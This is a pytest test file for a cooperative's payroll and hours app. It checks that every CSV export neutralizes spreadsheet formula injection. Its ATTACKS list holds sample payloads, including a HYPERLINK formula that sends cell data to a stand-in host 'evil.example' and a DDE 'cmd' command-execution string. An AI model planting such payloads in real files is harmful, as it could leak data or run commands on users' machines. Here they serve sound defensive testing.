"""Every CSV the project writes neutralizes cells a spreadsheet would run as a formula."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest

from coop import spreadsheet
from coop.portability import export_cooperative
from payroll import distributing, documents
from payroll.models import Distribution
from tests.conftest import as_member
from tests.factories import ProjectFactory, TimeEntryFactory
from tests.payroll.books import SEPTEMBER

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"payslip")'
ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_cell_that_starts_a_formula_gets_a_quote(text):
    assert spreadsheet.neutralize(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Rosario Software", "Rosario Software"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (75, 75),
        (-30, -30),
        (Decimal("-1.50"), "-1.50"),  # a number the project writes stays a number
        ("-1.50", "'-1.50"),  # the same characters typed as text are guarded
        ("＝1+1", "'＝1+1"),  # fullwidth equals sign
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_untouched(value, written):
    assert spreadsheet.neutralize(value) == written


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def url(member, path=""):
    return f"/api/v1/coops/{member.cooperative.slug}/{path}"


@pytest.mark.django_db
class TestHoursExports:
    @pytest.fixture
    def entry(self, admin_member):
        project = ProjectFactory(client__cooperative=admin_member.cooperative, name="@project")
        project.client.name = "-client"
        project.client.save()
        admin_member.user.full_name = "+Mallory"
        admin_member.user.save()
        return TimeEntryFactory(
            member=admin_member, project=project, date=datetime.date(2026, 9, 3), minutes=75,
            description=FORMULA,
        )  # fmt: skip

    def test_time_entries_export(self, api, admin_member, entry):
        response = as_member(api, admin_member).get(
            url(admin_member, "time-entries/export/?month=2026-09")
        )
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        row = _rows(response.content.decode())[0]
        assert row["description"] == "'" + FORMULA
        assert (row["member_name"], row["client"], row["project"]) == (
            "'+Mallory", "'-client", "'@project"
        )  # fmt: skip
        assert (row["minutes"], row["hours"]) == ("75", "1.25")
        entry.refresh_from_db()
        assert entry.description == FORMULA  # the data itself is unchanged

    def test_a_negative_correction_stays_a_number(self, api, admin_member, entry):
        TimeEntryFactory(
            member=admin_member, project=entry.project, date=entry.date, minutes=-30,
            adjusts=entry, description="-30 min: double counted",
        )  # fmt: skip
        response = as_member(api, admin_member).get(
            url(admin_member, "time-entries/export/?month=2026-09")
        )
        row = next(r for r in _rows(response.content.decode()) if r["adjusts"])
        assert (row["minutes"], row["hours"]) == ("-30", "-0.50")
        assert row["description"] == "'-30 min: double counted"

    def test_hours_summary_export(self, api, admin_member, entry):
        response = as_member(api, admin_member).get(
            url(admin_member, "hours/summary/export/?month=2026-09")
        )
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        row = _rows(response.content.decode())[0]
        assert (row["member_name"], row["client"], row["project"], row["minutes"]) == (
            "'+Mallory", "'-client", "'@project", "75"
        )  # fmt: skip

    def test_the_coop_archive_hours_files(self, admin_member, entry, settings, tmp_path):
        settings.MEDIA_ROOT = tmp_path
        archive = zipfile.ZipFile(io.BytesIO(export_cooperative(admin_member.cooperative)))
        row = _rows(archive.read("csv/hours-2026-09.csv").decode())[0]
        assert (row["description"], row["client"], row["project"]) == (
            "'" + FORMULA, "'-client", "'@project"
        )  # fmt: skip


@pytest.mark.django_db
def test_the_payments_csv(cooperative, treasurer, books, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    books[0].legal_name = FORMULA
    books[0].save()
    cooperative.name = "@Rosario"
    cooperative.save()
    run = distributing.create_draft(actor=treasurer, cooperative=cooperative, month=SEPTEMBER)
    run = Distribution.objects.select_related("cooperative", "policy").get(pk=run.pk)
    lines = list(run.lines.order_by("kind", "id"))
    text = documents.payments_csv(run, lines).decode("utf-8")
    rows = _rows(text)
    mine = next(row for row in rows if row["member_id"] == str(books[0].pk))
    assert mine["name"] == "'" + FORMULA
    assert mine["reference"].startswith("'@Rosario 2026-09")
    assert sum(Decimal(row["share"]) for row in rows) == run.surplus  # amounts stay numbers
    assert not any(row["share"].startswith("'") for row in rows)


@pytest.mark.django_db
def test_a_payments_csv_download_says_utf_8(
    cooperative, treasurer, books, api, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    run = distributing.create_draft(actor=treasurer, cooperative=cooperative, month=SEPTEMBER)
    with django_capture_on_commit_callbacks(execute=True):
        distributing.approve_distribution(actor=treasurer, distribution=run)
    response = as_member(api, treasurer).get(url(treasurer, f"distributions/{run.pk}/csv/"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    page = as_member(api, treasurer)
    page.force_login(treasurer.user)
    download = page.get(f"/c/{cooperative.slug}/money/distributions/{run.pk}/files/csv/")
    assert download.status_code == 200, download
    assert download["Content-Type"] == "text/csv; charset=utf-8"


def test_no_csv_is_written_past_the_shared_writer():
    """A new CSV export must use `coop.spreadsheet.writer`, or it escapes the formula guard."""
    from pathlib import Path

    root = Path(__file__).parents[2]
    # bench/ writes its raw baselines to a byte counter, never to a file anybody opens.
    skip = {".venv", "tests", "node_modules", "var", "build", "bench"}
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not skip & set(path.relative_to(root).parts)
        and path != root / "coop" / "spreadsheet.py"
        and any(
            needle in path.read_text(encoding="utf-8")
            for needle in ("csv.writer(", "csv.DictWriter(", "DictWriter(")
        )
    ]
    assert offenders == []
